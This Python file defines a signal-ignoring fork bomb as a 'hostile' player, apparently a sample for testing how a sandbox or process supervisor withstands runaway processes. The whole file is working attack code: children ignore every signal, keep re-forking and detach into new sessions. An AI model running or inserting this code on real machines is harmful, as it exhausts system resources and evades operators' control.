"""Forks children that ignore every signal and fork again whenever one of them is gone."""

import contextlib
import os
import signal
import time

from hostile import Player, did, leave

AT_ONCE = 40


class DeafForkBomb(Player):
    def deed(self) -> None:
        born = 0
        with contextlib.suppress(OSError):
            while born < AT_ONCE:
                if os.fork() == 0:
                    _breed()
                born += 1
        time.sleep(0.3)  # they multiply
        did(f"{born} children that hear nothing breed")


def _breed() -> None:
    for number in signal.valid_signals():
        with contextlib.suppress(OSError, ValueError):
            signal.signal(number, signal.SIG_IGN)
    while True:
        with contextlib.suppress(OSError):
            if os.fork():
                leave(0)
            os.setsid()
        time.sleep(0.01)


if __name__ == "__main__":
    DeafForkBomb().run()
